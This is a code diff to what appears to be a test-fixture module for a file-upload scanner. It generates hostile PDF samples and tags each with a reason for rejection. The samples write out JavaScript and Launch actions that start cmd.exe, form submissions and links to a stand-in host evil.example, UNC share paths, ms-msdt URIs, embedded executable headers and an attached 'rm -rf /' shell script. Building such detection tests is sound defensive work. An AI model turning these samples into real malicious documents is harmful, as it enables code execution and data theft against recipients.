@@ -4,8 +4,10 @@ import { withHarmlessEnd } from '../../support/pdf/packings';
 import { zip } from '../../support/zip';
 import type { Hostile } from './hostile';
 
-function hostile(what: string, data: Buffer): Hostile {
-  return { what: `a PDF ${what}`, name: 'cv.pdf', data, because: 'contains' };
+type Reason = Hostile['because'];
+
+function hostile(what: string, data: Buffer, because: Reason): Hostile {
+  return { what: `a PDF ${what}`, name: 'cv.pdf', data, because };
 }
 
 /** With this behind a link on its page. */
@@ -15,64 +17,140 @@ function behindLink(action: string, others = {}): Buffer {
   return pdfOf(onePage('', { 3: page, 10: link, ...others }));
 }
 
-const actions: [what: string, action: string][] = [
-  ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
-  ['a script in hexadecimal digits', '<< /S /JavaScript /JS <6170702e616c657274> >>'],
-  ['a script under an escaped name', '<< /S /J#61vaScript /#4aS (app.alert(1)) >>'],
-  ['a script in a film', '<< /S /Rendition /OP 0 /JS (app.alert(1)) >>'],
-  ['a script after a page', '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>'],
-  ['an order to start a program', '<< /S /Launch /F (cmd.exe) >>'],
-  ['an order to start a program, under an escaped name', '<< /S /La#75nch /F (cmd.exe) >>'],
-  ['an order to start a program of Windows', '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
-  ['a form that sends', '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>'],
-  ['data that is fetched', '<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>'],
-  ['a program in a film', '<< /S /RichMediaExecute /CMD << /C (play) >> >>'],
-  ['an action that nobody knows', '<< /S /OpenEverything >>'],
-  ['a document in a network', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
-  ['a document in a network, with slashes', '<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>'],
+const actions: [because: Reason, links: Record<string, string>][] = [
   [
-    'a document in a network, in a specification',
-    '<< /S /GoToE /F << /Type /Filespec /UF <feff005c005c0065005c0073> >> >>',
+    'a script',
+    {
+      'a script': '<< /S /JavaScript /JS (app.alert(1)) >>',
+      'a script in hexadecimal digits': '<< /S /JavaScript /JS <6170702e616c657274> >>',
+      'a script under an escaped name': '<< /S /J#61vaScript /#4aS (app.alert(1)) >>',
+      'a script in a film': '<< /S /Rendition /OP 0 /JS (app.alert(1)) >>',
+      'a script after a page': '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>',
+    },
   ],
-  ['a document in a network, as an address', '<< /S /GoToR /F (file://evil.example/x.pdf) /D [0 /Fit] >>'],
-  ['an article in a network', '<< /S /Thread /F (\\\\\\\\evil.example\\\\x.pdf) /D 0 >>'],
-  ['a file in a network', '<< /S /URI /URI (file://evil.example/share) >>'],
-  ['a share', '<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>'],
-  ['a script in an address', '<< /S /URI /URI (javascript:alert\\(1\\)) >>'],
-  ['a script in an address with a line end', '<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>'],
-  ['a script in an address in hexadecimal digits', '<< /S /URI /URI <6a6176617363726970743a31> >>'],
-  ['a program of Windows', '<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>'],
-  ['a share, percent-encoded', '<< /S /URI /URI (%5c%5cevil.example%5cshare) >>'],
-  ['a share in an address, percent-encoded', '<< /S /URI /URI (file:%2f%2fevil.example%2fshare) >>'],
-  ['a script in an address, percent-encoded', '<< /S /URI /URI (javascript%3aalert\\(1\\)) >>'],
-  ['a program of Windows, percent-encoded twice', '<< /S /URI /URI (ms-msdt%253a/id) >>'],
-  ['a program beside the document', '<< /S /URI /URI (setup.exe) >>'],
-  ['a program of the computer', '<< /S /GoToR /F (/C/Windows/System32/calc.exe) >>'],
-  ['data in an address', '<< /S /URI /URI (data:text/html,x) >>'],
+  [
+    'an order to start a program',
+    {
+      'an order to start a program': '<< /S /Launch /F (cmd.exe) >>',
+      'an order to start a program, under an escaped name': '<< /S /La#75nch /F (cmd.exe) >>',
+      'an order to start a program of Windows': '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
+    },
+  ],
+  [
+    'a form that sends',
+    {
+      'a form that sends': '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
+    },
+  ],
+  [
+    'an order to fetch data',
+    {
+      'data that is fetched': '<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>',
+    },
+  ],
+  [
+    'contains a program',
+    {
+      'a program in a film': '<< /S /RichMediaExecute /CMD << /C (play) >> >>',
+    },
+  ],
+  [
+    'an action that we do not know',
+    {
+      'an action that nobody knows': '<< /S /OpenEverything >>',
+    },
+  ],
+  [
+    'a link to a file in a network',
+    {
+      'a document in a network': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+      'a document in a network, with slashes': '<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>',
+      'a document in a network, in a specification':
+        '<< /S /GoToE /F << /Type /Filespec /UF <feff005c005c0065005c0073> >> >>',
+      'a document in a network, as an address': '<< /S /GoToR /F (file://evil.example/x.pdf) /D [0 /Fit] >>',
+      'an article in a network': '<< /S /Thread /F (\\\\\\\\evil.example\\\\x.pdf) /D 0 >>',
+    },
+  ],
+  [
+    'leads to a program',
+    {
+      'a file in a network': '<< /S /URI /URI (file://evil.example/share) >>',
+      'a share': '<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>',
+      'a script in an address': '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
+      'a script in an address with a line end': '<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>',
+      'a script in an address in hexadecimal digits': '<< /S /URI /URI <6a6176617363726970743a31> >>',
+      'a program of Windows': '<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>',
+      'a share, percent-encoded': '<< /S /URI /URI (%5c%5cevil.example%5cshare) >>',
+      'a share in an address, percent-encoded': '<< /S /URI /URI (file:%2f%2fevil.example%2fshare) >>',
+      'a script in an address, percent-encoded': '<< /S /URI /URI (javascript%3aalert\\(1\\)) >>',
+      'a program of Windows, percent-encoded twice': '<< /S /URI /URI (ms-msdt%253a/id) >>',
+      'data in an address': '<< /S /URI /URI (data:text/html,x) >>',
+    },
+  ],
+  [
+    'a link to a program',
+    {
+      'a program beside the document': '<< /S /URI /URI (setup.exe) >>',
+      'a program of the computer': '<< /S /GoToR /F (/C/Windows/System32/calc.exe) >>',
+    },
+  ],
 ];
 
-const opened: [what: string, catalogue: string, others?: Record<number, string | Buffer>][] = [
-  ['runs a script when opened', '/OpenAction << /S /JavaScript /JS (x) >>'],
-  ['runs a script in a stream when opened', '/OpenAction << /S /JavaScript /JS 10 0 R >>', { 10: streamOf('x') }],
-  ['calls home when opened', '/OpenAction << /S /URI /URI (https://evil.example/) >>'],
+/** Actions that lead out of the document, each to where a click may lead. */
+const leaving = ['/GoToR /F (a.pdf)', '/GoToE /F (a.pdf)', '/Thread /F (a.pdf)', '/URI /URI (https://evil.example/)'];
+
+const opened: [what: string, because: Reason, catalogue: string, others?: Record<number, string | Buffer>][] = [
+  ['runs a script when opened', 'a script', '/OpenAction << /S /JavaScript /JS (x) >>'],
+  [
+    'runs a script in a stream when opened',
+    'a script',
+    '/OpenAction << /S /JavaScript /JS 10 0 R >>',
+    { 10: streamOf('x') },
+  ],
+  ['calls home when opened', 'opens by itself', '/OpenAction << /S /URI /URI (https://evil.example/) >>'],
   [
     'calls home after a page is shown',
+    'opens by itself',
     '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://x.example/) >>] >>',
   ],
-  ['calls home when it is closed', '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>'],
+  ['calls home when it is closed', 'opens by itself', '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>'],
   [
     'has a list of scripts',
+    'a script',
     '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>',
     { 10: '<< /S /JavaScript /JS (x) >>' },
   ],
-  ['counts all links from a share', '/URI << /Base (file://evil.example/) >>'],
+  ...leaving.flatMap((action): typeof opened => [
+    [`follows ${action} when opened`, 'opens by itself', `/OpenAction << /S ${action} >>`],
+    [`follows ${action} when it is closed`, 'opens by itself', `/AA << /WC << /S ${action} >> >>`],
+  ]),
+  [
+    'has files beside an attached one',
+    'files that belong to an attached one',
+    '',
+    { 10: '<< /F (a.txt) /RF << >> >>' },
+  ],
+  ['was fetched from a share', 'leads to a program', '', { 10: '<< /S /SPS /URL (file://evil.example/) >>' }],
+  [
+    'has a link with an unknown older action',
+    'an action that we do not know',
+    '',
+    { 10: '<< /PA << /S /OpenEverything >> >>' },
+  ],
+  ['counts all links from a share', 'leads to a program', '/URI << /Base (file://evil.example/) >>'],
   [
     'has a script with its three-dimensional picture',
+    'a script',
     '',
     { 10: streamOf('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 11 0 R'), 11: streamOf('x') },
   ],
-  ['has its page in a network', '', { 10: '<< /Length 0 /F (//evil.example/x) >>\nstream\n\nendstream' }],
-  ['has a script that belongs to nothing', '', { 10: '<< /S /JavaScript /JS (x) >>' }],
+  [
+    'has its page in a network',
+    'parts that stand in another file',
+    '',
+    { 10: '<< /Length 0 /F (//evil.example/x) >>\nstream\n\nendstream' },
+  ],
+  ['has a script that belongs to nothing', 'a script', '', { 10: '<< /S /JavaScript /JS (x) >>' }],
 ];
 
 const template = '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform>';
@@ -119,7 +197,7 @@ const svgWithDefault =
   '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>';
 
 const script1 = pdfOf(onePage('/OpenAction << /S /JavaScript /JS (x) >>'));
-const programs: [what: string, file: Buffer][] = [
+const programs: [what: string, file: Buffer, because: Reason][] = [
   ...[
     'exe',
     'EXE',
@@ -138,42 +216,70 @@ const programs: [what: string, file: Buffer][] = [
     'iso',
     'url',
     'library-ms',
-  ].map((end): [string, Buffer] => [`attached as x.${end}`, attachedPdf(`x.${end}`, 'x')]),
-  ['attached as x.exe with a blank behind', attachedPdf('x.exe ', 'x')],
-  ['attached under two names', attachedPdf('x.txt', 'x', '/DOS (x.exe)')],
-  ['attached as x.txt, a program inside', attachedPdf('x.txt', Buffer.from('MZ\x90\0\x03', 'latin1'))],
-  ['attached as x.png, a program inside', attachedPdf('x.png', Buffer.from('\x7fELF\x02\x01', 'latin1'))],
-  ['attached without an end, a script inside', attachedPdf('run', '#!/bin/sh\nrm -rf /')],
-  ['attached as x.txt, a shortcut inside', attachedPdf('x.txt', Buffer.from('L\0\0\0\x01\x14\x02\0\0\0', 'latin1'))],
-  ['attached as x.html with a script', attachedPdf('x.html', '<html><script>alert(1)</script></html>')],
+  ].map((end): (typeof programs)[number] => [`attached as x.${end}`, attachedPdf(`x.${end}`, 'x'), 'may be a program']),
+  ['attached as x.exe with a blank behind', attachedPdf('x.exe ', 'x'), 'may be a program'],
+  ['attached under two names', attachedPdf('x.txt', 'x', '/DOS (x.exe)'), 'may be a program'],
+  [
+    'attached as x.txt, a program inside',
+    attachedPdf('x.txt', Buffer.from('MZ\x90\0\x03', 'latin1')),
+    'embedded program',
+  ],
+  [
+    'attached as x.png, a program inside',
+    attachedPdf('x.png', Buffer.from('\x7fELF\x02\x01', 'latin1')),
+    'embedded program',
+  ],
+  ['attached without an end, a script inside', attachedPdf('run', '#!/bin/sh\nrm -rf /'), 'embedded program'],
+  [
+    'attached as x.txt, a shortcut inside',
+    attachedPdf('x.txt', Buffer.from('L\0\0\0\x01\x14\x02\0\0\0', 'latin1')),
+    'embedded program',
+  ],
+  ['attached as x.html with a script', attachedPdf('x.html', '<html><script>alert(1)</script></html>'), 'web page'],
   [
     'attached as x.svg with a handler',
     attachedPdf('x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    'web page',
   ],
-  ['attached as x.xml with a style sheet', attachedPdf('x.xml', '<?xml-stylesheet href="x.xsl"?><x/>')],
-  ['attached as x.xlsx with macros', attachedPdf('x.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }]))],
-  ['attached as x.docx that is a program', attachedPdf('x.docx', Buffer.from('MZ'))],
-  ['in an attached PDF', attachedPdf('x.pdf', script1)],
-  ['in a PDF that is attached to an attached one', attachedPdf('x.pdf', attachedPdf('y.pdf', script1))],
+  ['attached as x.xml with a style sheet', attachedPdf('x.xml', '<?xml-stylesheet href="x.xsl"?><x/>'), 'web page'],
+  [
+    'attached as x.xlsx with macros',
+    attachedPdf('x.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }])),
+    'may be a program',
+  ],
+  ['attached as x.docx that is a program', attachedPdf('x.docx', Buffer.from('MZ')), 'embedded program'],
+  ['in an attached PDF', attachedPdf('x.pdf', script1), 'a script'],
+  ['in a PDF that is attached to an attached one', attachedPdf('x.pdf', attachedPdf('y.pdf', script1)), 'a script'],
   [
     'in the ninth of PDFs in one another',
     Array.from({ length: 9 }).reduce<Buffer>((inner) => attachedPdf('a.pdf', inner), pdfOf(onePage())),
+    'files within files',
   ],
   [
     'in an attached .docx',
     attachedPdf('x.docx', docxFile({ 'word/a.bin': 'MZ' }, { bin: 'application/octet-stream' })),
+    'embedded program',
   ],
-  ['in a worksheet of an attached .docx', attachedPdf('x.docx', remoteSheet())],
-  ['in an archive attached as x.zip', attachedPdf('x.zip', zip([{ name: 'a/b.js', data: 'x' }]))],
+  ['in a worksheet of an attached .docx', attachedPdf('x.docx', remoteSheet()), 'fetched from elsewhere'],
+  ['in an archive attached as x.zip', attachedPdf('x.zip', zip([{ name: 'a/b.js', data: 'x' }])), 'may be a program'],
   [
     'attached as x.html, behind the end of a comment of HTML',
     attachedPdf('x.html', '<p><!--><script>x</script>--></p>'),
+    'web page',
   ],
-  ['attached as x.html, behind a section of XML', attachedPdf('x.html', '<p><![CDATA[><script>x</script>]]></p>')],
-  ['attached as x.html, without any script', attachedPdf('x.html', '<p>x</p>')],
-  ['attached as x.html, behind a style sheet', attachedPdf('x.html', '<style></style><a></a>\n<style>x</style>')],
-  ['attached as x.svg with a handler by default', attachedPdf('x.svg', svgWithDefault)],
-  ['attached as x.pdf that is broken', attachedPdf('x.pdf', '%PDF-1.7')],
+  [
+    'attached as x.html, behind a section of XML',
+    attachedPdf('x.html', '<p><![CDATA[><script>x</script>]]></p>'),
+    'web page',
+  ],
+  ['attached as x.html, without any script', attachedPdf('x.html', '<p>x</p>'), 'web page'],
+  [
+    'attached as x.html, behind a style sheet',
+    attachedPdf('x.html', '<style></style><a></a>\n<style>x</style>'),
+    'web page',
+  ],
+  ['attached as x.svg with a handler by default', attachedPdf('x.svg', svgWithDefault), 'web page'],
+  ['attached as x.pdf that is broken', attachedPdf('x.pdf', '%PDF-1.7'), 'locked or broken'],
 ];
 
 const programBeforeText = pdfOf(
@@ -184,11 +290,15 @@ const programBeforeText = pdfOf(
 );
 
 export const activePdfs: Hostile[] = [
-  ...actions.map(([what, action]) => hostile(`that links to ${what}`, behindLink(action))),
-  ...opened.map(([what, catalogue, others]) => hostile(`that ${what}`, pdfOf(onePage(catalogue, others)))),
-  ...forms.map(([what, xfa, others]) =>
-    hostile(`with a form in XML ${what}`, pdfOf(onePage(`/AcroForm << /XFA ${xfa} >>`, others))),
+  ...actions.flatMap(([because, links]) =>
+    Object.entries(links).map(([what, action]) => hostile(`that links to ${what}`, behindLink(action), because)),
   ),
-  { ...hostile('with a program attached before a text, with a wrong checksum', programBeforeText), because: 'damaged' },
-  ...programs.map(([what, file]) => hostile(`with a program ${what}`, file)),
+  ...opened.map(([what, because, catalogue, others]) =>
+    hostile(`that ${what}`, pdfOf(onePage(catalogue, others)), because),
+  ),
+  ...forms.map(([what, xfa, others]) =>
+    hostile(`with a form in XML ${what}`, pdfOf(onePage(`/AcroForm << /XFA ${xfa} >>`, others)), 'a form with scripts'),
+  ),
+  hostile('with a program attached before a text, with a wrong checksum', programBeforeText, 'damaged'),
+  ...programs.map(([what, file, because]) => hostile(`with a program ${what}`, file, because)),
 ];
